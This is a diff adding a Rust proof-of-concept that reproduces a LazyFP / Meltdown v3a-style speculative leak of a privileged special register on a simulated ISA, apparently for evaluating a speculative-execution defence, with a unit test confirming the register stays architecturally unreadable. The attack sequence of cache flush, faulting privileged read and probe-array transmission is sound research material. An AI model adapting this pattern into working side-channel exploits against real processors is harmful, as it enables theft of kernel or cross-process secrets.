@@ -1,0 +1,69 @@
+//! LazyFP / Meltdown v3a analogue: chosen-code leak of a privileged
+//! special register via `RdMsr`.
+//!
+//! The paper treats special-register reads (AVX state in LazyFP, MSRs in
+//! Meltdown v3a) "like loads": they are load-like for permissive
+//! propagation and for load restriction. This PoC reads a privileged MSR —
+//! which faults at commit but forwards its value speculatively under the
+//! modelled implementation flaw — and transmits it through the d-cache.
+
+use crate::layout::*;
+use crate::util;
+use nda_isa::{Asm, Program, Reg};
+
+/// Wrong-path attempts before recovery.
+const ATTEMPTS: u64 = 2;
+
+/// Build the attack program for `secret`.
+pub fn program(secret: u8) -> Program {
+    let mut asm = Asm::new();
+    let handler = asm.new_label();
+    let attempt = asm.new_label();
+    let recover = asm.new_label();
+    asm.fault_handler(handler);
+    asm.msr(SECRET_MSR, secret as u64); // privileged: not user-readable
+
+    util::emit_probe_flush(&mut asm);
+    asm.li(Reg::X9, 0);
+
+    asm.bind(attempt);
+    asm.addi(Reg::X9, Reg::X9, 1);
+    // Blocker to delay fault delivery (as in the Meltdown PoC).
+    asm.li(Reg::X10, BLOCKER_ADDR);
+    asm.clflush(Reg::X10, 0);
+    asm.ld8(Reg::X11, Reg::X10, 0);
+    // Phase 1: privileged special-register read.
+    asm.rdmsr(Reg::X6, SECRET_MSR); // faults at commit; value forwards now
+    // Phase 2: transmit.
+    asm.shli(Reg::X6, Reg::X6, 9);
+    asm.li(Reg::X7, PROBE_BASE);
+    asm.add(Reg::X7, Reg::X7, Reg::X6);
+    asm.ld1(Reg::X8, Reg::X7, 0);
+    asm.jmp(recover); // unreachable
+
+    asm.bind(handler);
+    asm.li(Reg::X26, ATTEMPTS);
+    asm.bltu(Reg::X9, Reg::X26, attempt);
+
+    asm.bind(recover);
+    util::emit_recover(&mut asm);
+    asm.halt();
+
+    asm.assemble().expect("lazyfp assembles")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use nda_isa::Interp;
+
+    #[test]
+    fn msr_is_architecturally_unreadable() {
+        let p = program(42);
+        let mut i = Interp::new(&p);
+        let exit = i.run(10_000_000).expect("halts");
+        assert!(exit.halted);
+        assert_eq!(exit.faults, ATTEMPTS);
+        assert_eq!(i.reg(Reg::X6), 0);
+    }
+}
